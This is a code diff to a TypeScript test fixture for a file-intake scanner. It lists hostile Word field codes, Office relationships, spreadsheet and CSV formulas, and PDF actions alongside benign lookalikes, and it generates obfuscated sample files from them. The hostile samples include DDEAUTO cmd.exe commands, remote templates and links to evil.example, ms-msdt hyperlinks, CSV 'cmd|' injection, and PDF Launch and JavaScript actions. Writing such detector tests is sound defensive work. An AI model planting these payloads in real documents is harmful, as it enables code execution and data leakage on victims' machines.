@@ -1,13 +1,16 @@
+import type { FindingCode } from "../../src/intake/inspection/finding";
 import { docxParts, names, xlsxParts } from "./office-samples";
+import { objectStream, pdfWith } from "./pdf-samples";
+import { followedBy, pdf } from "./samples";
 import { blanks, encoded, misc, pick, type Random, randomCase, spelledText, spelledValue } from "./spelled-xml";
 import { zip } from "./zip-samples";
 
 /** Makes a file of a payload. */
 type Make = (payload: string, random: Random) => Uint8Array;
 
-/** What would act, and what is allowed in its place. */
+/** What would act, by what is found, and what is allowed in its place. */
 export interface Family {
-  readonly hostile: readonly [string, ...string[]];
+  readonly hostile: Readonly<Partial<Record<FindingCode, readonly string[]>>>;
   readonly allowed: readonly [string, ...string[]];
   readonly make: Make;
 }
@@ -20,32 +23,36 @@ const prefixes = ["w", "W_1.2", "é", "字"] as const;
 
 /** A Word field: in one element, or between marks in runs of several kinds, within another field, in any part. */
 const field: Family = {
-  hostile: [
-    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
-    "DDE cmd x",
-    'INCLUDEPICTURE "http://evil.example/a.png" \\d',
-    'INCLUDETEXT "https://evil.example/a"',
-    "INCLUDE c:\\\\a.docx",
-    'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" A1',
-    'DATABASE \\d "C:\\a.mdb"',
-    "IMPORT a.png",
-    'RD "\\\\\\\\evil\\\\a.docx"',
-    "PRINT 27",
-    "EMBED Package",
-    "CONTROL Forms.CommandButton.1",
-    "MACROBUTTON AutoExec x",
-    'HYPERLINK "javascript:alert(1)"',
-    'HYPERLINK \\o "a" "ms-msdt:/id PCWDiagnostic"',
-    "HYPERLINK \\\\\\\\evil\\\\share",
-    'HYPERLINK "file://evil.example/share/a.exe"',
-    "UNKNOWNFIELD x",
-    '"DDE" cmd',
-  ],
+  hostile: {
+    field: [
+      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+      "DDE cmd x",
+      'INCLUDEPICTURE "http://evil.example/a.png" \\d',
+      'INCLUDETEXT "https://evil.example/a"',
+      "INCLUDE c:\\\\a.docx",
+      'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" A1',
+      'DATABASE \\d "C:\\a.mdb"',
+      "IMPORT a.png",
+      'RD "\\\\\\\\evil\\\\a.docx"',
+      "PRINT 27",
+      "EMBED Package",
+      "CONTROL Forms.CommandButton.1",
+      "MACROBUTTON AutoExec x",
+      'HYPERLINK "javascript:alert(1)"',
+      'HYPERLINK \\o "a" "ms-msdt:/id PCWDiagnostic"',
+      "HYPERLINK \\\\\\\\evil\\\\share",
+      'HYPERLINK "file://evil.example/share/a.exe"',
+      "UNKNOWNFIELD x",
+      '"DDE" cmd',
+    ],
+  },
   allowed: [
     "PAGE",
     'TOC \\o "1-3" \\h',
     'DATE \\@ "d MMMM"',
     'HYPERLINK "https://a.example" \\o "a"',
+    'HYPERLINK \\l "_DDE_1"',
+    "MERGEFIELD Nama",
     "= 3 * 4",
     "XE a",
   ],
@@ -63,7 +70,7 @@ const field: Family = {
     const whole = `${mark("begin")}${run(code.slice(0, cut))}${run(code.slice(cut))}`;
     const complex = `${whole}${random() < 0.7 ? mark("separate") : ""}${random() < 0.9 ? mark("end") : ""}`;
     const nested = `${mark("begin")}${tag("instrText", "", "IF 1 = 1 ")}${complex}${mark("end")}`;
-    const decoy = 'xmlns:a="urn:a" a:instr="PAGE"';
+    const decoy = `${prefix}:dirty="a>b" xmlns:a="urn:a" a:instr="PAGE"`;
     const simple = tag("fldSimple", `${decoy} ${prefix}:instr="${spelledValue(random, code)}"`);
     const part = pick(random, ["header", "footer", "footnotes", "endnotes", "comments"]);
     const name = pick(random, [`word/${part}1.xml`, `word/media/${part}.png`, `a/${part}.dat`]);
@@ -83,39 +90,48 @@ const officeTypes = [
 
 /** A relationship: its type, mode and target, a blank between each. */
 const relationship: Family = {
-  hostile: [
-    "attachedTemplate External http://evil.example/a.dotm",
-    "attachedTemplate External file://evil.example/share/a.dotm",
-    "attachedTemplate External \\\\evil\\share\\a.dotm",
-    "attachedTemplate External file:///C:\\..\\..\\\\evil\\a.dotm",
-    "image External http://evil.example/a.png",
-    "image External //evil.example/a.png",
-    "oleObject External http://evil.example/a.hta",
-    "oleObject Internal embeddings/a.bin",
-    "package Internal embeddings/a.docm",
-    "frame External http://evil.example/",
-    "subDocument External a.docx",
-    "aFChunk Internal chunk.rtf",
-    "control Internal activeX1.xml",
-    "externalLink Internal externalLink1.xml",
-    "connections Internal connections.xml",
-    "mailMergeSource External file:///C:\\a.mdb",
-    "header External http://evil.example/header.xml",
-    "settings External http://evil.example/settings.xml",
-    "hyperlink External javascript:alert(1)",
-    "hyperlink External ms-msdt:/id",
-    "hyperlink External \\\\evil\\share",
-    "vbaProject Internal a.bin",
-    "header Internal styles.xml",
-    "header Internal ..\\word\\header.xml",
-    "header Internal head%65r.xml",
-    "STYLES Internal styles.xml",
-    "styles internal styles.xml",
-    "unknown Internal styles.xml",
-  ],
+  hostile: {
+    remote: [
+      "attachedTemplate External http://evil.example/a.dotm",
+      "attachedTemplate External file://evil.example/share/a.dotm",
+      "attachedTemplate External \\\\evil\\share\\a.dotm",
+      "attachedTemplate External file:///C:\\..\\..\\\\evil\\a.dotm",
+      "attachedTemplate External file:///\\\\evil\\a.dotm",
+      "image External http://evil.example/a.png",
+      "image External //evil.example/a.png",
+      "frame External http://evil.example/",
+      "subDocument External a.docx",
+      "externalLink Internal externalLink1.xml",
+      "externalLinkPath External file:///\\\\evil\\share\\a.xlsx",
+      "connections Internal connections.xml",
+      "mailMergeSource External file:///C:\\a.mdb",
+      "header External http://evil.example/header.xml",
+      "settings External http://evil.example/settings.xml",
+      "hyperlink External javascript:alert(1)",
+      "hyperlink External ms-msdt:/id",
+      "hyperlink External \\\\evil\\share",
+    ],
+    embedded: [
+      "oleObject External http://evil.example/a.hta",
+      "oleObject Internal embeddings/a.bin",
+      "package Internal embeddings/a.docm",
+      "aFChunk Internal chunk.rtf",
+    ],
+    script: ["control Internal activeX1.xml"],
+    macro: ["vbaProject Internal a.bin"],
+    part: ["header Internal styles.xml", "STYLES Internal styles.xml", "unknown Internal styles.xml"],
+    unreadable: ["header Internal ..\\word\\header.xml", "header Internal head%65r.xml", "styles internal styles.xml"],
+  },
   allowed: [
     "hyperlink External https://a.example/",
     "hyperlink External mailto:a@a.example",
+    "hyperlink External tel:+6221",
+    "hyperlink External file:///C:\\Users\\a.docx",
+    "hyperlink External #judul",
+    "hyperlink External lain.docx",
+    "hyperlink External about:blank",
+    "image External file:///C:/Users/SITI/AppData/Local/Temp/clip_image001.jpg",
+    "attachedTemplate External file://localhost/Users/siti/Resume.dotx",
     "styles Internal styles.xml",
     "attachedTemplate External file:///C:\\Users\\Siti\\Resume.dotx",
   ],
@@ -184,8 +200,16 @@ function spelledFormula(random: Random, payload: string): string {
 
 /** A formula in a workbook: in a cell, a rule, a name or an attribute. */
 const formula: Family = {
-  hostile: [...formulas],
-  allowed: ["SUM(A1:B9)", "VLOOKUP(A1,$A$1:$B$9,2,FALSE)", "Tarif!A1%", "'Kelas \"I\"'!A1", "Tarif[Harga]", '"|"&A1'],
+  hostile: { formula: formulas },
+  allowed: [
+    "SUM(A1:B9)",
+    "VLOOKUP(A1,$A$1:$B$9,2,FALSE)*_xlfn.XLOOKUP(2,$A:$A,$1:$2)+IF(1<>2,1.5E3,-3%)",
+    "Tarif!A1%",
+    "'Kelas \"I\"'!A1+'Obat & Generik (2026)'!A1+'Jum''at'!B2",
+    "SUM(Tarif[Harga])*Tarif[[#This Row],[Harga satuan]]",
+    "#REF!+#REF!$A$1+IFERROR(#N/A,0)",
+    'A1&"|"&"it\'s"&B1&"!"',
+  ],
   make(payload, random) {
     const code = spelledFormula(random, payload);
     const behind = random() < 0.3 ? `'a"b'!A1+${code}+'c"d'!B2` : code;
@@ -207,7 +231,7 @@ const formula: Family = {
 
 /** A formula in a cell of a CSV file. */
 const cell: Family = {
-  hostile: [...formulas, '1+\nWEBSERVICE("http://evil.example")', "1+\ncmd|'/c calc'!A0"],
+  hostile: { formula: [...formulas, '1+\nWEBSERVICE("http://evil.example")', "1+\ncmd|'/c calc'!A0"] },
   allowed: ["SUM(A1:B9)", "A1%", '"a"&A1', "IF(A1>1,2,3)"],
   make(payload, random) {
     const separator = pick(random, [",", ";", "\t", "^"]);
@@ -228,4 +252,78 @@ const cell: Family = {
   },
 };
 
-export const families = { field, relationship, formula, cell } as const;
+/** Names of a PDF, some of their letters in hex. */
+const spelledNames = (random: Random, object: string) =>
+  object.replace(/(?<=\/)[A-Za-z]+/g, (name) =>
+    name.replace(/./g, (letter) => (random() < 0.2 ? `#${letter.charCodeAt(0).toString(16)}` : letter)),
+  );
+
+/** An object of a PDF: in its table, packed, or where only a reader that rebuilds the table finds it. */
+const pdfObject: Family = {
+  hostile: {
+    script: [
+      "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
+      "<< /OpenAction << /S /JavaScript /JS (x) >> >>",
+      "<< /Names << /JavaScript 3 0 R >> >>",
+      "/JavaScript",
+      "<< /A ] /S /JavaScript >>",
+      "<< /Annots [<< /Subtype /RichMedia >>] >>",
+      "<< /Type /3D /OnInstantiate 6 0 R >>",
+      "<< /S /Rendition /OP 0 >>",
+      "<< /AA 3 0 R >>",
+    ],
+    program: ["<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>", "<< /S /Launch /F (cmd.exe) >>"],
+    embedded: [
+      "<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
+      "<< /Type /EmbeddedFile >>",
+      "<< /Annots [<< /Subtype /FileAttachment /FS 3 0 R >>] >>",
+      "<< /S /GoToE /T << /R /C /N (a.pdf) >> >>",
+    ],
+    form: [
+      "<< /AcroForm << /Fields [] /XFA 3 0 R >> >>",
+      "<< /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>",
+      "<< /S /ImportData /F (a.fdf) >>",
+    ],
+    remote: [
+      "<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>",
+      "<< /OpenAction << /S /URI /URI (https://evil.example) >> >>",
+      "<< /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >> >>",
+      "<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 3 0 R >> >>",
+      "<< /OpenAction << /S 3 0 R /URI 3 0 R >> >>",
+    ],
+    unreadable: ["<< /OpenAction 77 0 R >>"],
+  },
+  allowed: [
+    "<< /OpenAction [3 0 R /XYZ null null 0] >>",
+    "<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
+    "<< /Annots [<< /Subtype /Link /A << /S /URI /URI (https://a.example/Launch/JavaScript \\)/AA) >> >>] >>",
+    "<< /Annots [<< /Subtype /Link /A << /S /GoToR /F (lain.pdf) /D [0 /Fit] >> >>] >>",
+    "<< /AcroForm << /Fields [<< /FT /Tx /T (nama) /V () >>] >> >>",
+    "<< /Title (a\\(b) /Names << /EmbeddedFiles << /Names [] >> >> >>",
+    "<< % /JavaScript\n/A#20B [ /C(d)/E<66> ] >>",
+  ],
+  make(payload, random) {
+    const object = spelledNames(random, payload);
+    const behind = (start: string) => followedBy(pdf, `8 0 obj\n${start}\n9 0 obj\n${object}\nendobj\n`);
+    const inStream = (start: string) => {
+      return {
+        ...objectStream([
+          [7, start],
+          [8, object],
+        ]),
+        entries: `/Kind /Other /N 2 /First 8 /Filter /FlateDecode`,
+      };
+    };
+    return pick(random, [
+      () => pdfWith({ 5: object }),
+      () => pdfWith({ 5: object }, { packed: true }),
+      () => behind(""),
+      () => behind("( "),
+      () => behind("<< /Length 9 >>\nstream\n"),
+      () => pdfWith({ 5: { entries: "", data: new TextEncoder().encode(`7 0 obj ${object} endobj`) } }),
+      () => pdfWith({ 5: inStream("(a") }),
+    ])();
+  },
+};
+
+export const families = { field, relationship, formula, cell, pdfObject } as const;
